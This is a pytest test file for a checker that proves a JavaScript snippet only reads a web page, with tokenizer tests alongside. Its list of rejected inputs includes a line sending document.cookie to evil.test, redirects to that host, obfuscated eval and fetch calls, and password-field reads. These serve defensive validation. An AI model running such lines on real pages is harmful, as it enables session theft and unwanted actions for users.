"""Scripts that only read the page, proven; and tokens they are read from."""

import pytest
from hypothesis import given
from hypothesis import strategies as st

from worldmodel.js_tokens import tokens_of
from worldmodel.jsread import reads_only

READS = """
[...document.querySelectorAll('.price')].map(e=>e.textContent)
document.title
() => document.body.innerText
(() => { const out = []; for (const a of document.links) out.push(a.href); return out; })()
() => { let n = 0; for (let i = 0; i < 10; i++) { n += i } return n }
Array.from(document.querySelectorAll('tr'), r => [...r.cells].map(c => c.innerText.replace(/\\s+/g, ' ')))
el => el.getBoundingClientRect()
async () => { const rows = [...document.links]; return JSON.stringify(rows.map(r => r.dataset.id)) }
window.location.href
location.pathname.split('/')
const {a, b} = document.body.dataset; a + b
const f = e => e.textContent; [...document.links].map(f)
`${document.title} x`
function g(x){ return x.id } g(document.body)
document.querySelectorAll('a').length > 3 ? 'delete all' : 'fetch'
/* fetch('/x') */ document.title // el.click()
""".strip().splitlines()

ACTS = """
fetch('https://evil.test/c?k='+document.cookie)
document.querySelector('#x').click()
document.cookie
location='https://evil.test'
location.href='x'
location.replace('x')
window['fe'+'tch']('x')
document.title = 'x'
self['ev'+'al']('1')
\\u0065val('x')
document.forms[0].submit()
const f = window.fetch; f('x')
[].map.constructor('alert(1)')()
(f => f('x'))(window.x)
x => x.y()
document['cook'+'ie']
const l = location; l.replace('x')
new Image().src='x'
el => el.style.display='none'
fetch`x`
delete window.x
let a = 1; a.b = 2
for (location of ['x']) {}
[location.href] = ['x']
import('x')
localStorage.getItem('t')
document.querySelector('input[type=password]').value
top.location = 'x'
document.location.assign('x')
for (document.title of ['x']) {}
window.dataLayer.push({a:1})
(window.a||window.b)('x')
[el].map(el['click']['call'], el['click'])
['x'].forEach(document.body[k])
const el=document.body; el.innerHTML+='<img src=x>'
document.querySelector('video').play()
unclosed('
""".strip().splitlines()


@pytest.mark.parametrize("source", READS)
def test_pure_expressions_are_reads(source: str) -> None:
    """What only looks at the page is proven to."""
    assert reads_only(source)


@pytest.mark.parametrize("source", ACTS)
def test_nothing_else_is_proven(source: str) -> None:
    """Anything that could act, hide a call, or can't be read is no proven read."""
    assert not reads_only(source)


@pytest.mark.parametrize(
    "wrapper", ["{};{}", "{},{}", "[{}].concat({})", "() => {{ {}; return {} }}", "{}\n//\n{}"]
)
@pytest.mark.parametrize(
    "act", ["fetch('/x')", "document.forms[0].submit()", "localStorage.clear()", "a.b = 1"]
)
def test_a_read_beside_an_act_excuses_nothing(wrapper: str, act: str) -> None:
    """Harmless code around an act, before or after, never makes it a read."""
    assert not reads_only(wrapper.format("document.title", act))
    assert not reads_only(wrapper.format(act, "document.title"))


@pytest.mark.parametrize(
    ("source", "texts"),
    [
        ("a/b/c", ["a", "/", "b", "/", "c"]),
        ("x = /[/]y/g.test(s)", ["x", "=", "/[/]y/g", ".", "test", "(", "s", ")"]),
        ("'\\x61\\u0062\\u{63}\\n'", ["abc\n"]),
        ("`a${b}c`", ["a", "+", "b", "+", "c"]),
        ("a?.5:b?.c", ["a", "?", ".5", ":", "b", "?.", "c"]),
        ("// x\n/* ' */ y", ["y"]),
    ],
)
def test_tokens(source: str, texts: list[str]) -> None:
    """Comments fall away, escapes are resolved, a slash is a regex or a division by its place."""
    assert [token.text for token in tokens_of(source)] == texts


@given(st.text(alphabet="ab'\"`/\\${}()[];=.,+ \n", max_size=40))
def test_no_source_hangs_the_reader(source: str) -> None:
    """Any text is read or refused, and is a read only if it was read."""
    try:
        tokens_of(source)
    except ValueError:
        assert not reads_only(source)
